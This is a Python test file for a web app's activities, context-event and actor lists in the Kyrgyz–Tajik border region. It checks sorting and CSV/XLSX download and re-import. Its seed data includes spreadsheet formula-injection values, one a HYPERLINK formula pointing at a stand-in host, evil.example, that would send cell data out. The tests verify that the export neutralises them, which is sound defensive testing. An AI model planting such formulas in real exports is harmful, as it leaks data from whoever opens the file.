"""The activities list newest first with regions by name, and the filtered list downloaded as
CSV or XLSX — every matching row, in the registry's columns, safe to open in a spreadsheet and
importable again."""

from __future__ import annotations

import io
import re

from lowpolitics.ingest.registry import parse_registry

ROWS = [
    ("x-old", "2019-06", '=HYPERLINK("http://evil.example/"&A1)', "KG-B", "societal"),
    ("x-mid", "2021-05-10", "Youth camp in Vorukh", "TJ-SU", "education_youth"),
    ("x-new", "2023-09-01", "@Women's groups meet", "KG-B", "societal"),
]


def _seed(web) -> None:
    client, editor = web.client(), web.bearer("editor")
    for key, day, title, region, mechanism in ROWS:
        row = {"id": key, "date": day, "title": title, "mechanism": mechanism, "status": "held"}
        row.update(region=region, host_country=region[:2], partner_country="TJ")
        answer = client.post("/api/v1/activities", json=row, headers=editor)
        assert answer.status_code == 201, answer.text


def test_the_lists_are_newest_first_with_regions_by_name(web):
    _seed(web)
    viewer = web.client("viewer", lang="ru")
    page = viewer.get("/activities").text
    assert re.findall(r'href="/activities/(x-\w+)"', page) == ["x-new", "x-mid", "x-old"]
    assert '<span title="KG-B">Баткенская область</span>' in page
    assert '<span title="TJ-SU">Согдийская область</span>' in page
    assert '<option value="KG-B" title="KG-B" >Баткенская область</option>' in page
    oldest = viewer.get("/activities?sort=date").text
    assert re.findall(r'href="/activities/(x-\w+)"', oldest) == ["x-old", "x-mid", "x-new"]
    detail = viewer.get("/activities/x-mid").text
    assert '<span title="TJ-SU">Согдийская область</span> <code>TJ-SU</code>' in detail

    client, editor = web.client(), web.bearer("editor")
    for key, day in (("k-1", "2020-01-01"), ("k-2", "2022-02-02")):
        event = {"id": key, "date": day, "kind": "security", "region": "KG-B"}
        client.post("/api/v1/context-events", json=event, headers=editor)
    context = web.client("viewer").get("/context").text
    order = re.findall(r'href="/context/(k-\d)"', context)
    assert list(dict.fromkeys(order)) == ["k-2", "k-1"]
    assert '<span title="KG-B">Batken Region</span>' in context


def test_the_filtered_list_downloads_as_csv_safe_and_importable(web, tmp_path, codebook, gazetteer):
    _seed(web)
    viewer = web.client("viewer")
    page = viewer.get("/activities?region=KG-B&sort=date").text
    link = re.search(r'<a href="(/activities\.csv[^"]*)" download>CSV</a>', page).group(1)
    assert "region=KG-B" in link and "sort=date" in link
    download = viewer.get(link.replace("&amp;", "&"))
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert download.headers["content-disposition"].startswith('attachment; filename="activities-')
    text = download.content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("id,date,end_date,title,")
    assert [line.split(",")[0] for line in lines[1:]] == ["x-old", "x-new"]  # filter and sort
    assert "'=HYPERLINK" in text and "'@Women" in text  # neutralised: shown as text

    path = tmp_path / "downloaded.csv"
    path.write_bytes(download.content)
    parsed = parse_registry(path, codebook, gazetteer)
    assert not parsed.rejected
    assert [r.title for r in parsed.records] == [ROWS[0][2], ROWS[2][2]]  # apostrophes gone


def test_the_filtered_list_downloads_as_xlsx(web, tmp_path, codebook, gazetteer):
    from openpyxl import load_workbook

    _seed(web)
    answer = web.client("viewer").get("/activities.xlsx?mechanism=societal&q=women")
    assert answer.status_code == 200
    assert "spreadsheetml" in answer.headers["content-type"]
    sheet = load_workbook(io.BytesIO(answer.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][:4] == ["id", "date", "end_date", "title"]
    assert [r[0] for r in rows[1:]] == ["x-new"] and rows[1][3] == "'@Women's groups meet"
    assert rows[1][1] == "2023-09-01"  # a date stays as written, not a spreadsheet number
    path = tmp_path / "downloaded.xlsx"
    path.write_bytes(answer.content)
    parsed = parse_registry(path, codebook, gazetteer)
    assert [r.title for r in parsed.records] == [ROWS[2][2]]


def test_an_unknown_format_or_a_bad_filter_is_refused(web):
    viewer = web.client("viewer")
    assert viewer.get("/activities.pdf").status_code == 404
    assert viewer.get("/activities.csv?date_from=soon").status_code == 422
    assert web.client().get("/activities.csv", follow_redirects=False).status_code == 303


def test_context_events_and_actors_download_as_files_to_import_again(
    web, tmp_path, codebook, gazetteer
):
    """The download is declared per entity on its pages: the context list and the actors
    list offer it as the activities list does, in their import files' columns."""
    from lowpolitics.ingest.actors import parse_actors
    from lowpolitics.ingest.context import parse_context

    client, editor = web.client(), web.bearer("editor")
    for key, day, summary in (("k-1", "2020-01-01", "=cmd()"), ("k-2", "2022-02-02", "Clash")):
        event = {"id": key, "date": day, "kind": "security", "region": "KG-B", "summary": summary}
        assert client.post("/api/v1/context-events", json=event, headers=editor).status_code == 201
    for name in ("Vorukh youth council", "Isfara women's council"):
        actor = {"name": name, "country": "TJ", "type": "youth_group"}
        assert client.post("/api/v1/actors", json=actor, headers=editor).status_code == 201
    viewer = web.client("viewer")

    page = viewer.get("/context?sort=date").text
    link = re.search(r'<a href="(/context\.csv[^"]*)" download>CSV</a>', page).group(1)
    download = viewer.get(link.replace("&amp;", "&"))
    assert download.headers["content-disposition"].startswith('attachment; filename="context-')
    lines = download.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("id,date,end_date,kind,") and "'=cmd()" in lines[1]
    assert [line.split(",")[0] for line in lines[1:]] == ["k-1", "k-2"]  # as sorted
    path = tmp_path / "context.csv"
    path.write_bytes(download.content)
    parsed = parse_context(path, codebook, gazetteer)
    assert not parsed.rejected and [r.key for r in parsed.records] == ["k-1", "k-2"]

    page = viewer.get("/actors?q=youth").text
    link = re.search(r'<a href="(/actors\.xlsx[^"]*)" download>XLSX</a>', page).group(1)
    assert "q=youth" in link
    path = tmp_path / "actors.xlsx"
    path.write_bytes(viewer.get(link.replace("&amp;", "&")).content)
    parsed = parse_actors(path, codebook)
    assert [(r.name, r.country) for r in parsed.records] == [("Vorukh youth council", "TJ")]
    assert viewer.get("/actors.pdf").status_code == 404
    assert "download>CSV</a>" not in viewer.get("/bodies").text  # not declared for bodies


def test_a_refused_sort_is_said_on_every_list_page(web):
    viewer = web.client("viewer")
    for address in ("/actors?sort=colour", "/places?border=maybe", "/instruments?sort=colour"):
        page = viewer.get(address)
        assert page.status_code == 422 and "<html" in page.text, address  # the list page
        assert "A filter needs correcting" in page.text, address
